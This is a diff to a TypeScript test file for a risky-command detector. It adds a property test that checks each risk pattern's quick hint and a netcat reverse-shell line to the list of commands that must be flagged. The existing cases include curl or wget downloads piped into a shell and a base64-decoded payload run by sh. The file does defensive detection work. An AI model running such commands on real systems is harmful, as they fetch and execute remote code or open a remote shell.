@@ -1,5 +1,7 @@
 import { expect, test } from "vitest";
-import { isRiskyCommand } from "./risky-command.ts";
+import { randomFrom } from "../../bench/random.ts";
+import { sampleMatch } from "../../test/support/sample-match.ts";
+import { isRiskyCommand, RISKS } from "./risky-command.ts";
 
 test.each([
   "curl -s https://x.example/i.sh | sh",
@@ -7,6 +9,7 @@ test.each([
   'sh -c "$(curl -fsSL https://x.example)"',
   "bash <(curl -s https://x.example)",
   "curl -s https://x.example/i.py | python3 -",
+  "nc x.example 4444 -e /bin/bash",
   "curl -so /tmp/x https://x.example && sh /tmp/x",
   "wget https://x.example/a && chmod +x a && ./a",
   "echo abc | base64 -d | sh",
@@ -62,3 +65,15 @@ test("a long command line is judged in a moment", () => {
   for (const part of ["curl ", "git -c x ", "sudo -x ", "npm run ", "docker run ", "aws a ", "bash -c "])
     expect(isRiskyCommand(`${part.repeat(100_000)}`)).toBeTypeOf("boolean");
 });
+
+test.each(RISKS.map((risk, at) => [at, risk] as const))(
+  "whatever risk %i finds, its first look finds",
+  (_at, { hint, pattern }) => {
+    const [random, risk] = [randomFrom(16), pattern()];
+    const commands = Array.from({ length: 6_000 }, () => sampleMatch(risk, random)).filter((each) =>
+      risk.test(each),
+    );
+    expect(commands.length).toBeGreaterThan(1_000);
+    expect(commands.filter((each) => !hint.test(each)).slice(0, 5)).toEqual([]);
+  },
+);
